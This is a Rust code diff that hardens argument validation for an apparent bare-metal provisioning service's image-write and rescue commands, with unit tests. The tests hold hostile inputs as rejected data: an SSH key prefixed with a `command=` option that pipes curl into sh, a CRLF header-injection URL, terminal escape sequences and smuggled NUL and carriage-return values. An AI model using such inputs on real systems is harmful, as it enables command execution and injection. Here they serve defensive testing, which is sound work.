@@ -9,7 +9,10 @@ use serde_json::Value;
 use super::CommandName;
 use super::bmc::{BootDeviceArgs, PowerArgs, VerifyArgs};
 use super::clean::CleanArgs;
-use super::deploy::{ImageWriteArgs, MAX_SSH_KEYS, MAX_URL_LEN, MAX_USER_DATA_BYTES};
+use super::deploy::{
+    ImageWriteArgs, MAX_HINT_LEN, MAX_INSTANCE_ID_LEN, MAX_SSH_KEY_LEN, MAX_SSH_KEYS, MAX_URL_LEN,
+    MAX_USER_DATA_BYTES,
+};
 use super::diag::DiagArgs;
 use super::inventory::InventoryRefreshArgs;
 use super::logs::CollectArgs;
@@ -58,15 +61,53 @@ fn since_parses(s: &str) -> bool {
     humantime::parse_duration(s).is_ok() || chrono::DateTime::parse_from_rfc3339(s).is_ok()
 }
 
-/// `image.write`'s ranges: an http(s) URL, a SHA-256 of 64 hex digits, a config drive with a
-/// hostname and bounded keys and user data.
+/// True for a string of 1 to `max` bytes without control characters (no line break, NUL or
+/// terminal escape can reach a file, a log line or an operator's terminal through it).
+fn bounded_text(s: &str, max: usize) -> bool {
+    !s.is_empty() && s.len() <= max && !s.chars().any(char::is_control)
+}
+
+/// `image.write`'s ranges: an http(s) URL, a SHA-256 of 64 hex digits, root-device hints and an
+/// instance id of bounded printable text, a config drive with a hostname and bounded keys and
+/// user data.
 fn check_image_write(command: CommandName, a: &ImageWriteArgs) -> Result<(), ArgsError> {
+    if let Some(h) = &a.root_device {
+        for (field, v) in [
+            ("rootDevice.serial", &h.serial),
+            ("rootDevice.wwn", &h.wwn),
+            ("rootDevice.name", &h.name),
+        ] {
+            if v.as_deref().is_some_and(|v| !bounded_text(v, MAX_HINT_LEN)) {
+                return Err(range(
+                    command,
+                    field,
+                    format!("must be 1 to {MAX_HINT_LEN} bytes without control characters"),
+                ));
+            }
+        }
+    }
+    if a.instance_id
+        .as_deref()
+        .is_some_and(|v| !bounded_text(v, MAX_INSTANCE_ID_LEN))
+    {
+        return Err(range(
+            command,
+            "instanceId",
+            format!("must be 1 to {MAX_INSTANCE_ID_LEN} bytes without control characters"),
+        ));
+    }
     let url = &a.image.url;
-    if !(url.starts_with("http://") || url.starts_with("https://")) || url.len() > MAX_URL_LEN {
+    // The URL is shown in events and conditions: no control character or space may ride in it.
+    if !(url.starts_with("http://") || url.starts_with("https://"))
+        || url.len() > MAX_URL_LEN
+        || url.chars().any(|c| c.is_control() || c.is_whitespace())
+    {
         return Err(range(
             command,
             "image.url",
-            format!("must be an http:// or https:// URL of at most {MAX_URL_LEN} bytes"),
+            format!(
+                "must be an http:// or https:// URL of at most {MAX_URL_LEN} bytes, without spaces or control characters"
+            ),
         ));
     }
     let h = &a.image.sha256;
@@ -94,11 +135,17 @@ fn check_image_write(command: CommandName, a: &ImageWriteArgs) -> Result<(), Arg
                 "must be a host name (letters, digits, '-', '.'; at most 253)",
             ));
         }
-        if c.ssh_keys.len() > MAX_SSH_KEYS || c.ssh_keys.iter().any(|k| k.contains('\n')) {
+        if c.ssh_keys.len() > MAX_SSH_KEYS
+            || c.ssh_keys
+                .iter()
+                .any(|k| !bounded_text(k.trim(), MAX_SSH_KEY_LEN))
+        {
             return Err(range(
                 command,
                 "configDrive.sshKeys",
-                format!("at most {MAX_SSH_KEYS} keys, one line each"),
+                format!(
+                    "at most {MAX_SSH_KEYS} keys, one line each of at most {MAX_SSH_KEY_LEN} bytes"
+                ),
             ));
         }
         if c.user_data
@@ -132,11 +179,14 @@ pub fn check_args(command: CommandName, args: &Value) -> Result<(), ArgsError> {
         CommandName::DiskClean => shape::<CleanArgs>(command, args).map(drop),
         CommandName::RescueStart => {
             let a: RescueArgs = shape(command, args)?;
+            // The ramdisk writes them to root's authorized_keys after the same parse: a key it
+            // would refuse (options such as `command="…"`, a line break, not a key) is refused
+            // here, before a machine is booted for nothing.
             let bad = a.ssh_keys.is_empty()
                 || a.ssh_keys.len() > MAX_RESCUE_KEYS
-                || a.ssh_keys
-                    .iter()
-                    .any(|k| k.trim().is_empty() || k.contains('\n') || !k.contains(' '));
+                || a.ssh_keys.iter().any(|k| {
+                    k.len() > MAX_SSH_KEY_LEN || crate::spec::parse_public_key(k).is_err()
+                });
             if bad {
                 return Err(range(
                     command,
@@ -198,6 +248,9 @@ mod tests {
     use super::*;
     use serde_json::json;
 
+    /// A real Ed25519 public key line.
+    const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOERN77nva79CxNnrBtUHoVf+5B1uamEYVTUhLRKlKUW op@laptop";
+
     #[test]
     fn every_command_is_checked_against_its_contract() {
         let ok = [
@@ -241,10 +294,7 @@ mod tests {
             ),
             (CommandName::DiskClean, json!({})),
             (CommandName::DiskClean, json!({"mode": "full"})),
-            (
-                CommandName::RescueStart,
-                json!({"sshKeys": ["ssh-ed25519 AAAAC3Nza op@laptop"]}),
-            ),
+            (CommandName::RescueStart, json!({"sshKeys": [KEY]})),
             (
                 CommandName::ImageWrite,
                 json!({"image": {"url": "http://10.0.2.2:1/i.raw", "sha256": "ab".repeat(32)},
@@ -341,6 +391,101 @@ mod tests {
                 .map(|e| e.to_string())
                 .unwrap_or_default();
             assert!(e.contains(what) && e.contains(c.as_str()), "{c} {a}: {e:?}");
+        }
+    }
+
+    fn refused_field(c: CommandName, a: &Value) -> String {
+        check_args(c, a)
+            .err()
+            .map(|e| e.to_string())
+            .unwrap_or_default()
+    }
+
+    #[test]
+    fn rescue_keys_are_parsed_as_the_ramdisk_parses_them() {
+        assert!(check_args(CommandName::RescueStart, &json!({"sshKeys": [KEY]})).is_ok());
+        let with_option = format!("command=\"/bin/sh -c 'curl x|sh'\" {KEY}");
+        let long_comment = format!("{KEY} {}", "c".repeat(MAX_SSH_KEY_LEN));
+        for bad in [
+            // Options in front of the key: sshd would run the command for whoever logs in.
+            with_option.as_str(),
+            "no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOERN77nva79CxNnrBtUHoVf+5B1uamEYVTUhLRKlKUW",
+            // Not a key at all, but with a space (what the old check asked for).
+            "ssh-ed25519 AAAAC3Nza op@laptop",
+            "hello world",
+            // A carriage return, a NUL.
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOERN77nva79CxNnrBtUHoVf+5B1uamEYVTUhLRKlKUW a\rb",
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOERN77nva79CxNnrBtUHoVf+5B1uamEYVTUhLRKlKUW a\0",
+            long_comment.as_str(),
+        ] {
+            let e = refused_field(CommandName::RescueStart, &json!({"sshKeys": [bad]}));
+            assert!(e.contains("sshKeys"), "{bad:?} accepted: {e:?}");
+        }
+    }
+
+    #[test]
+    fn image_write_strings_are_bounded_and_printable() {
+        let base = |extra: Value| {
+            let mut a = json!({"image": {"url": "http://h/i", "sha256": "ab".repeat(32)}});
+            if let (Some(o), Some(e)) = (a.as_object_mut(), extra.as_object()) {
+                o.extend(e.clone());
+            }
+            a
+        };
+        let ok = base(json!({
+            "rootDevice": {"serial": "S1", "wwn": "naa.5000c500a1", "name": "/dev/disk/by-id/virtio-S1"},
+            "instanceId": "node_1-boot_2",
+            "configDrive": {"hostname": "m1", "sshKeys": [KEY, "ssh-ed25519 AAAA x\n"]}
+        }));
+        assert!(
+            check_args(CommandName::ImageWrite, &ok).is_ok(),
+            "{:?}",
+            check_args(CommandName::ImageWrite, &ok)
+        );
+        for url in [
+            "http://h/i\u{1b}[2Jx",
+            "http://h/i\r\nX-Injected: 1",
+            "http://h/i j",
+        ] {
+            let a = json!({"image": {"url": url, "sha256": "ab".repeat(32)}});
+            let e = refused_field(CommandName::ImageWrite, &a);
+            assert!(e.contains("image.url"), "{url:?}: {e:?}");
+        }
+        let huge = "s".repeat(MAX_HINT_LEN + 1);
+        let cases = [
+            (json!({"rootDevice": {"serial": huge}}), "rootDevice.serial"),
+            (json!({"rootDevice": {"serial": ""}}), "rootDevice.serial"),
+            (
+                json!({"rootDevice": {"wwn": "naa.\u{1b}[2J"}}),
+                "rootDevice.wwn",
+            ),
+            (
+                json!({"rootDevice": {"name": "vda\nsdb"}}),
+                "rootDevice.name",
+            ),
+            (json!({"instanceId": "i\n- x"}), "instanceId"),
+            (
+                json!({"instanceId": "i".repeat(MAX_INSTANCE_ID_LEN + 1)}),
+                "instanceId",
+            ),
+            (
+                json!({"configDrive": {"hostname": "m1", "sshKeys": ["k".repeat(MAX_SSH_KEY_LEN + 1)]}}),
+                "configDrive.sshKeys",
+            ),
+            (
+                json!({"configDrive": {"hostname": "m1", "sshKeys": ["ssh-ed25519 AAAA a\rb"]}}),
+                "configDrive.sshKeys",
+            ),
+            (
+                json!({"configDrive": {"hostname": "m1", "sshKeys": ["ssh-ed25519 AAAA\u{0}"]}}),
+                "configDrive.sshKeys",
+            ),
+        ];
+        for (extra, field) in cases {
+            let a = base(extra);
+            let e = refused_field(CommandName::ImageWrite, &a);
+            assert!(e.contains(field), "{a}: {e:?}");
+            assert!(e.len() < 300, "the message must not echo the value: {e}");
         }
     }
 }
